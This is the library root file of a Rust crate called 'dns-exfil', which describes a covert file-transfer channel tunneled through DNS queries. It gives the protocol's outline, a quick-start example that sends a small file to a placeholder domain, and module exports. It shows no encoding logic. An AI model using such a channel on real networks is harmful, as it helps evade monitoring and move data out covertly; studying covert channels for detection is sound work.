//! dns-exfil: a covert file-transfer channel tunneled through DNS query
//! traffic.
//!
//! A sender splits a file into a custom base-16 alphabet (`'a'..='p'`,
//! guaranteed DNS-label-safe) and frames it across QNAME labels; a receiver
//! parses inbound queries for a configured base domain, reassembles the
//! chunks in order, and acknowledges each one with a repurposed NXDOMAIN
//! response. See [`sender::send_file`] and [`receiver::receive_one_file`]
//! for the two halves of the protocol.
//!
//! ## Quick start
//!
//! ```rust,no_run
//! use dns_exfil::{config::BaseDomain, events::NullObserver, sender::{self, SenderOptions}};
//! use std::time::Duration;
//!
//! # fn example() -> Result<(), dns_exfil::error::TunnelError> {
//! let opts = SenderOptions {
//!     base: BaseDomain::new("tunnel.example.com")?,
//!     upstream: "127.0.0.1:53".parse().unwrap(),
//!     dest_filename: "notes.txt".to_string(),
//!     retry_budget: 3,
//!     timeout: Duration::from_secs(4),
//! };
//! sender::send_file(&b"hello"[..], &opts, &NullObserver)?;
//! # Ok(())
//! # }
//! ```

pub mod codec;
pub mod config;
pub mod error;
pub mod events;
pub mod framer;
pub mod reassembler;
pub mod receiver;
pub mod reliable;
pub mod resolv;
pub mod sender;
pub mod session;
pub mod transport;
pub mod wire;

pub use config::{BaseDomain, TunnelConfig};
pub use error::TunnelError;
pub use events::{LoggingObserver, NullObserver, TunnelObserver};
pub use receiver::{receive_one_file, ReceiverOptions};
pub use sender::{send_file, SenderOptions};
